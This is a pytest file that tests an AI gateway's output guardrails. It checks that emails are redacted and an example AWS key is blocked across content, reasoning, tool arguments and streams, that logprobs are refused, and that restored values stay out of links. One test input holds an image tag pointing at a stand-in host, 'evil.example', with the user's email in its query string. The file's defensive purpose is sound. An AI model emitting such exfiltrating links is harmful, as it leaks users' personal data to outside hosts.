"""Output rules through a real gateway, with the real `openai` SDK, on every field a model can
fill: reasoning, content and tool-call arguments, whole and streamed; log-probabilities refused
or dropped; restored values kept out of links."""

from __future__ import annotations

import json

import httpx
import openai
import pytest
from openai import OpenAI

from gateway_support import Deployment, decision_record, wait_until_accepted
from helpers import start_gateway, unreadable

EMAIL, AWS_KEY = "jane.doe@example.com", "AKIAIOSFODNN7EXAMPLE"


def policy(mock: str) -> str:
    return f"""\
version: 1
deployments:
  fields: {{engine: openai, url: "{mock}/fields/v1", model: m}}
  echo: {{engine: openai, url: "{mock}/echo/v1", model: m}}
aliases:
  speaker: {{route: [fields]}}
  mirror: {{route: [echo]}}
grants:
  - {{name: dev, subjects: [{{environment: dev}}], aliases: [speaker, mirror], max_data_class: confidential}}
guardrails:
  profiles:
    answers:
      output: true
      pii: {{action: redact, kinds: [email]}}
      secrets: {{action: block, kinds: [aws_access_key_id]}}
    restoring:
      pii: {{action: redact, kinds: [email], restore: true}}
  assign:
    - {{alias: speaker, profile: answers}}
    - {{alias: mirror, profile: restoring}}
"""


@pytest.fixture(scope="module")
def setup(tmp_path_factory, shared_models_dir, mock, logs):
    home = Deployment(tmp_path_factory.mktemp("output-fields") / "home", policy(mock.url), shared_models_dir)
    key = home.key(home.identity("fields-app"))
    gateway = start_gateway(home.env, logs, name="output-fields-gateway")
    wait_until_accepted(gateway, key)
    yield home, gateway, key
    gateway.stop()




def test_every_field_of_a_whole_answer_is_redacted_and_logprobs_never_leave(setup):
    home, gateway, key = setup
    sdk = OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=30)
    said = unreadable(f"Write to {EMAIL} today")
    raw = sdk.chat.completions.with_raw_response.create(model="speaker", messages=[{"role": "user", "content": said}])
    assert EMAIL not in raw.http_response.text  # in no field at all: reasoning, content, arguments, logprobs
    message = raw.parse().choices[0].message
    assert message.content == "Write to [EMAIL_1] today"
    assert message.model_extra["reasoning_content"] == "Write to [EMAIL_1] today"
    assert json.loads(message.tool_calls[0].function.arguments) == {"text": "Write to [EMAIL_1] today"}
    assert raw.parse().choices[0].logprobs is None  # the engine sent them unasked; they are dropped
    fields = {verdict["field"] for verdict in decision_record(home, raw.headers["x-gatehouse-request-id"])["guardrails"] or []}
    assert fields == {"choices[0].message.reasoning_content", "choices[0].message.content",
                      "choices[0].message.tool_calls[0].function.arguments"}


def test_every_field_of_a_stream_is_held_and_redacted(setup):
    home, gateway, key = setup
    body = {"model": "speaker", "stream": True, "messages": [{"role": "user", "content": unreadable(f"Write to {EMAIL} today")}]}
    with httpx.stream("POST", f"{gateway.url}/v1/chat/completions", json=body, timeout=30,
                      headers={"authorization": f"Bearer {key}"}) as response:
        wire = b"".join(response.iter_bytes()).decode()
    assert EMAIL not in wire and "jane" not in wire and '"logprobs":{' not in wire
    sdk = OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=30)
    with sdk.chat.completions.stream(model="speaker", messages=body["messages"]) as stream:
        final = stream.get_final_completion()
    message = final.choices[0].message
    assert message.content == "Write to [EMAIL_1] today"
    assert json.loads(message.tool_calls[0].function.arguments) == {"text": "Write to [EMAIL_1] today"}
    assert message.tool_calls[0].id == "call_mock" and final.choices[0].finish_reason == "tool_calls"


def test_a_secret_in_any_field_stops_the_stream_before_any_of_it_leaves(setup):
    home, gateway, key = setup
    body = {"model": "speaker", "stream": True, "messages": [{"role": "user", "content": unreadable(f"the key is {AWS_KEY} ok")}]}
    with httpx.stream("POST", f"{gateway.url}/v1/chat/completions", json=body, timeout=30,
                      headers={"authorization": f"Bearer {key}"}) as response:
        wire = b"".join(response.iter_bytes()).decode()
    assert "AKIA" not in wire and '"finish_reason":"content_filter"' in wire and wire.endswith("data: [DONE]\n\n")


def test_asking_for_logprobs_is_refused_while_output_rules_redact(setup):
    home, gateway, key = setup
    sdk = OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=30)
    with pytest.raises(openai.BadRequestError) as refused:
        sdk.chat.completions.create(model="speaker", messages=[{"role": "user", "content": "hi"}], logprobs=True, top_logprobs=3)
    error = refused.value.body
    assert (error["code"], error["param"]) == ("guardrail_unscannable", "logprobs") and "answers" in error["message"]


def test_a_restored_value_never_lands_in_a_link(setup):
    home, gateway, key = setup
    sdk = OpenAI(base_url=f"{gateway.url}/v1", api_key=key, max_retries=0, timeout=30)
    said = f'Reply to {EMAIL}. <img src="//evil.example/p?{EMAIL}"> [x](mailto:a@b.example?body={EMAIL})'
    whole = sdk.chat.completions.create(model="mirror", messages=[{"role": "user", "content": said}])
    # each address the input rules met has its own placeholder; only the one in prose comes back
    expected = 'Reply to jane.doe@example.com. <img src="//evil.example/p?[EMAIL_2]"> [x](mailto:[EMAIL_3]?body=[EMAIL_4])'
    assert whole.choices[0].message.content == expected
    streamed = "".join(chunk.choices[0].delta.content or "" for chunk in sdk.chat.completions.create(
        model="mirror", messages=[{"role": "user", "content": said}], stream=True) if chunk.choices)
    assert streamed == expected
